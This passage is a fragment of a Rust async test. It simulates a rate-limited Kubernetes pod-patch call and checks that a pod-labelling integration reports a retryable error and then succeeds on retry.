    s.fake.inject("patch", "pods", 429, 1).await;
    let error = s
        .integrations
        .fails(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
    assert!(error.retryable, "{error:?}");
    // Then it works.
    s.integrations
        .ok(
            "label_pod",
            json!({ "namespace": "shop", "pod": "web-1", "labels": { "a": "b" } }),
        )
        .await;
}
